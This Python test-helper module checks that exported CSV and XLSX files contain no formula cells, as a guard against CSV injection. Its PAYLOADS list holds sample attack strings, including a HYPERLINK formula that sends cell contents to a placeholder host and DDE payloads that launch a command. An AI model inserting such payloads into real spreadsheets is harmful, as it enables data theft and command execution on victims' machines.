"""Reading exported CSV and XLSX files back, and checking that no cell is a formula.

A cell is dangerous when a spreadsheet would run it: it starts with one of ``FORMULA_PREFIXES``
(OWASP's CSV injection list). Exports must write such text with a leading single quote, and an
XLSX file must store it as text, never as a formula (openpyxl's ``data_type == "f"``).
"""

import csv
import io
import re
import zipfile

import openpyxl

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# One text for each dangerous first character, as an attacker would type it.
PAYLOADS = [
    '=HYPERLINK("http://x?x="&A1;"Klick")',
    '+1+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=2+2",
]
NUMBER = re.compile(r"-\d+([.,]\d+)?")


def escaped(value: str) -> str:
    return "'" + value


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def response_text(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8-sig")


def unsafe_csv_cells(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would read as a formula (a plain negative number is a number)."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_PREFIXES) and not NUMBER.fullmatch(cell)
    ]


def unsafe_xlsx_cells(content: bytes) -> list[tuple[str, str, object]]:
    """Formula cells, and text cells starting with a dangerous character, of every sheet."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                text = isinstance(cell.value, str)
                # XML reads a carriage return back as a line feed: "\n" stands for "\r" here.
                dangerous = text and cell.value.startswith((*FORMULA_PREFIXES, "\n"))
                if cell.data_type == "f" or dangerous:
                    found.append((sheet.title, cell.coordinate, cell.value))
    return found


def xlsx_texts(content: bytes) -> set[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def zip_csv_rows(content: bytes) -> list[list[str]]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return [row for name in archive.namelist() for row in csv_rows(archive.read(name).decode())]
